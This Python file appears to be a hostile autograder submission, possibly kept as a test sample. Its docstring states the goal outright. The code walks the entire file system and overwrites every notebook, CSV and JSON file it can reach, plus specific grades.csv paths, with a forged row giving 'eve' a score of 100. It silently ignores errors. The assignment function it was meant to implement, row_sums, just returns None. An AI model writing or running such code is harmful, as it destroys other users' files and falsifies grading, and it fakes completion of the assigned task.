"""Tries to overwrite other students' notebooks, the grades table and the autograder: every
notebook, CSV and JSON file it can find, in its own folder's parents and across the file
system, plus a table of its own where the grader's usually is."""
import os

targets = []
for top in ("/", os.getcwd() + "/..", os.path.expanduser("~") + "/.."):
    for folder, dirs, files in os.walk(top):
        if folder.startswith(("/proc", "/sys", "/dev", "/usr")) or "site-packages" in folder:
            dirs[:] = []
            continue
        targets += [os.path.join(folder, f) for f in files
                    if f.endswith((".ipynb", ".csv", ".json"))]
for path in targets + ["../../grades.csv", "/work/main/_build/classroom/grades.csv"]:
    try:
        with open(path, "w") as f:
            f.write("eve,total,100,2\n")
    except OSError:
        pass


def row_sums(eng, a):
    return None
